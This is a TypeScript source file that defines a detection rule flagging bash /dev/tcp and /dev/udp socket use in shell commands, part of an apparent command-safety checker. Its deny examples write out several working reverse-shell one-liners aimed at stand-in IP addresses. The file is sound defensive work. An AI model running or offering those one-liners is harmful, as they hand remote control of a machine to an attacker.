/**
 * SH-AST-002: bash's /dev/tcp and /dev/udp pseudo-devices, the building block of reverse shells.
 * The bash extractor sets the NetOpFact's url to the pseudo-device path (`/dev/tcp/h/p`), for
 * redirects on any command, `exec N<>/dev/tcp/h/p` included; paths read as files and arguments
 * naming the device (`exec 3</dev/tcp/...` inside other programs' strings) are matched too.
 */
import { defineRule } from '../define-rule.js';

const DEV_NET = /\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/;
const DEV_NET_URL = /^\/dev\/(?:tcp|udp)\//;

export default defineRule({
  id: 'SH-AST-002',
  invariant: 'NO_SHELL_BREAKOUT',
  kinds: ['exec', 'file', 'net'],
  summary: 'Use of /dev/tcp or /dev/udp sockets (bash -i >& /dev/tcp/host/port).',
  remediationHint:
    'Raw /dev/tcp sockets are how reverse shells are built. Use an HTTP client for legitimate requests (curl -fsS https://host/path) and never connect a shell to a socket.',
  *check(facts) {
    const seen = new Set<number>();
    for (const f of facts.of('file')) {
      if (!/^\/dev\/(?:tcp|udp)\//.test(f.path)) continue;
      seen.add(f.span.start);
      yield { span: f.span, reason: `${f.actor} opens the socket ${f.path}`, suggestedAlternative: null };
    }
    for (const n of facts.of('net')) {
      if (n.url === undefined || !DEV_NET_URL.test(n.url) || seen.has(n.span.start)) continue;
      seen.add(n.span.start);
      yield { span: n.span, reason: `${n.actor} opens a /dev/tcp socket to ${n.host}` };
    }
    for (const e of facts.of('exec')) {
      if (seen.has(e.span.start)) continue;
      const arg = e.argv.find((a) => DEV_NET.test(a));
      if (arg !== undefined) yield { span: e.span, reason: `${e.program} uses a /dev/tcp socket` };
    }
  },
  examples: {
    deny: [
      { input: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' },
      { input: "bash -c 'sh -i >& /dev/udp/203.0.113.7/4444 0>&1'" },
      { input: 'cat < /dev/tcp/10.0.0.1/80' },
      {
        input: 'exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196',
        why: 'descriptor kept open by exec',
      },
      { input: 'exec 5<>/dev/udp/203.0.113.7/53', why: 'read-write redirect with an fd number' },
      { input: 'cat <>/dev/tcp/203.0.113.7/80', why: 'read-write redirect without an fd number' },
    ],
    allow: [
      { input: 'ls /dev/ | grep tty', why: 'listing devices' },
      { input: 'echo hello > /dev/stderr', why: 'a stream, not a socket' },
      { input: 'exec 3<>./fifo.txt; echo ready >&3', why: 'a read-write descriptor on a workspace file' },
      { input: 'nc -zv db.internal.example 5432', why: 'a port probe, not /dev/tcp' },
    ],
  },
});
